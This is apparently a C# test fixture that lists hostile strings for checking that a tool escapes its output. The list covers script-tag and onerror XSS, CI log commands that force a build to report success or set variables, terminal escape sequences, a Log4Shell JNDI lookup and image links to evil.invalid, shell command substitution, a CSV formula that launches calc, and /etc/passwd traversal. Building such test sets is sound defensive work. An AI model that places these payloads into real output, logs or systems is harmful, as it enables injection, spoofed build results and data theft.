namespace Conformance.HostileTargets.Tests.Judging;

/// <summary>Texts that act where nobody looks at what they print.</summary>
internal static class Payloads
{
    /// <summary>Runs in a browser.</summary>
    public const string Script = "<script>hostile()</script>";

    /// <summary>One of each kind.</summary>
    public static readonly ImmutableArray<string> All =
    [
        Script,
        "\"><img src=x onerror=hostile()>",
        "</style></script><script>hostile()</script>",
        "##vso[task.complete result=Succeeded;]done",
        "\n##vso[task.setvariable variable=x]y",
        "\n::error::hostile",
        "\r\n::add-mask::a",
        "\n##teamcity[buildStatus status='SUCCESS']",
        "\u001b[2J\u001b]0;owned\u0007\u009b31m",
        "\u001b]8;;http://evil.invalid/\u001b\\click\u001b]8;;\u001b\\",
        "]]></failure></testcase>",
        "<!--",
        "\u202eright-to-left\u2066\u2069\u200b\ufeff",
        "a\0b\u0001\b\u007f\u0085\u2028\u2029",
        "| a | b |\n| --- | --- |\n![x](http://evil.invalid/x.png) [y](javascript:hostile()) `",
        "{{7*7}} ${jndi:ldap://evil.invalid/a} ${{ secrets.TOKEN }} %0A%0D $(id) `id`",
        "=cmd|'/c calc'!A1",
        "[bold red]markup[/] [link=http://evil.invalid]x[/] [[",
        "../../../../etc/passwd",
        "{0} {1:X99999999} %s%n",
    ];
}
